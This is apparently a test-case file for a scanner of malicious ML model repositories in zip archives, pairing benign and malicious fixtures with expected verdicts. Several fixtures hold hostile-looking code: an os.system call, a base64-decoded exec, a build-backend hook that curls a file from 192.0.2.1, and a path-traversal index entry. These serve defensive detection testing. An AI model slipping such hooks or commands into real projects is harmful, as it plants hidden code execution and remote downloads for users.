"""Repositories in one archive: what its members make of each other. Loose files are in test_repository.py."""

from __future__ import annotations

from dataclasses import replace

from modelsweep.core.report import Verdict
from tests.scanners.case import Case
from tests.scanners.python_compiled.cases import CHECKED, PAYLOAD, compiled
from tests.scanners.repository.layouts import (
    COMPILED,
    DIFFUSERS,
    MALICIOUS,
    MODELING,
    OTHER_INDEX,
    SENTENCES,
    SHARD,
    SHARDED,
    TRANSFORMERS,
    Files,
    changed,
    index,
)
from tests.scanners.zip.cases import made

CLASS = b"import os\nclass Anything:\n    def predict(self, context, data):\n        os.system('sh run.sh')\n"
MLMODEL = b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    code: code\n"
EXEC = b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"


BACKEND = b'[build-system]\nrequires = []\nbuild-backend = "own:hooks"\nbackend-path = ["build"]\n'
RUNS = b"import subprocess\nsubprocess.run('curl http://192.0.2.1/x -o y', shell=True)\n"
QUIET = b"from setuptools.build_meta import *\nimport subprocess\nsubprocess.run(['git', 'describe'])\n"


def zipped(files: Files, verdict: Verdict) -> Case:
    """Return the case of a repository below a folder of a zip."""
    return Case(lambda: made(*((f"acme/{name}", data) for name, data in files.items())), "model.zip", verdict)


CASES = {
    "benign_transformers": zipped(TRANSFORMERS, Verdict.CLEAN),
    "benign_diffusers": zipped(DIFFUSERS, Verdict.CLEAN),
    "benign_sentence_transformers": zipped(SENTENCES, Verdict.CLEAN),
    "benign_code_elsewhere": zipped({"config.json": TRANSFORMERS["config.json"]}, Verdict.CLEAN),
    "imported_file_runs_command": zipped(MALICIOUS["import_of_import"][0], Verdict.MALICIOUS),
    "mlflow_class_runs_command": zipped({"MLmodel": MLMODEL, "code/acme/net.py": CLASS}, Verdict.REVIEW),
    "benign_mlflow_class_beside": zipped({"MLmodel": MLMODEL, "other/net.py": CLASS}, Verdict.CLEAN),
    "benign_mlflow_code": zipped({"MLmodel": MLMODEL, "code/acme/net.py": b"class Net: ...\n"}, Verdict.CLEAN),
    "pipeline_runs_command": zipped(MALICIOUS["known_component_of_its_own"][0], Verdict.MALICIOUS),
    "model_decodes_code": zipped(changed(TRANSFORMERS, modeling_acme=MODELING + EXEC), Verdict.MALICIOUS),
    "target_runs_command": zipped(MALICIOUS["target"][0], Verdict.REVIEW),
    "build_backend_runs_command": zipped({"pyproject.toml": BACKEND, "build/own.py": RUNS}, Verdict.MALICIOUS),
    "benign_build_backend": zipped({"pyproject.toml": BACKEND, "build/own.py": QUIET}, Verdict.CLEAN),
    "benign_shards": zipped(SHARDED, Verdict.CLEAN),
    "shards_of_another_index": zipped({**SHARDED, "model.safetensors.index.json": OTHER_INDEX}, Verdict.CLEAN),
    "index_alone": Case(lambda: SHARDED["model.safetensors.index.json"], "model.safetensors.index.json", Verdict.CLEAN),
    "shard_alone": Case(lambda: SHARDED[SHARD], SHARD, Verdict.CLEAN),
    "index_that_leads_out": Case(
        lambda: index({"a": "../../other/model-00001-of-00001.safetensors"}),
        "m.safetensors.index.json",
        Verdict.MALICIOUS,
    ),
    "cache_replaces_source": replace(
        zipped(
            {
                "net.py": b"def forward(x):\n    return x\n",
                "__pycache__/net.cpython-311.pyc": compiled(PAYLOAD, CHECKED),
            },
            Verdict.MALICIOUS,
        ),
        compiled=True,
    ),
    "compiled_model": replace(zipped(COMPILED, Verdict.REVIEW), compiled=True),
}
